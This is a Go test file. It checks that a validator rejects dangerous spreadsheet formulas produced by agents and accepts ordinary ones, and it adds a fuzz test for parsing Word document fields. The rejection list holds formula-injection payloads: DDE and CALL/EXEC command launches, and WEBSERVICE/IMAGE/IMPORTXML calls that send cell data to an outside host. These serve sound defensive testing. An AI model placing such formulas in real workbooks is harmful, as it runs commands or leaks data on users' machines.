package write

import (
	"slices"
	"testing"
)

// TestFormulasThatLeadOut checks that formulas of agents start nothing and send nothing when a person opens the workbook.
func TestFormulasThatLeadOut(t *testing.T) {
	for _, formula := range []string{
		`=cmd|'/c calc'!A1`, `=MSEXCEL|'\..\cmd.exe /c calc'!''`, `='cmd|/c calc'!A1`, `=DDE("cmd";"/c calc";"x")`, `=1+call("Kernel32","WinExec","JCJ","calc",0)`,
		`=EXEC("calc")`, `=REGISTER.ID("a","b")`, `=RTD("x",,"y")`, `=WEBSERVICE("http://x/"&A1)`, `=_xlfn.WEBSERVICE("http://x")`, `=_xlfn._xlws.IMAGE("http://x/"&A1)`,
		`=IFERROR(image ("http://x"),0)`, `=IMPORTXML("http://x","//a")`, `='[http://x/a.xlsx]S'!A1`, `=[a.xlsx]Sheet1!A1`, `=[1]!Name`, `='C:\a.xlsx'!Name`, `='//x/y'!A1`,
		`='a"'!A1+cmd|'/c calc'!A1&"x"`, `='a"'!A1+EXEC("x")&"x"`, `="a""b"&EXEC("x")`,
	} {
		if checkFormula("A1", formula) == nil {
			t.Errorf("%s is accepted", formula)
		}
	}
	for _, formula := range []string{
		`=SUM(A1:B2)`, `="a|b"`, `=IF(A1="CALL(x)",1,2)`, `=RECALL(1)`, `=Table1[[#Totals],[Price]]*Sheet2!B1`, `=SUM(T[a])/Sheet2!B1`, `='It''s / mine'`, `='My sheet'!A1/'Sheet 2'!B1`,
		`='Jan 1:Dec 1'!A1`, `=HYPERLINK("https://example.com","x")`, `=T[@[unit price]]*T[@n]`, `=LET(image,1,image+1)`, `="say ""hi"" | "&A1`, `=A1&"[x]y!"`,
	} {
		if err := checkFormula("A1", formula); err != nil {
			t.Error(formula, err)
		}
	}
}

func FuzzFieldsOf(f *testing.F) {
	f.Add(`<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> DD</w:instrText></w:r></w:p>`)
	f.Fuzz(func(t *testing.T, part string) {
		if slices.Contains(fieldsOf(part), "") {
			t.Error("a field without a name")
		}
	})
}
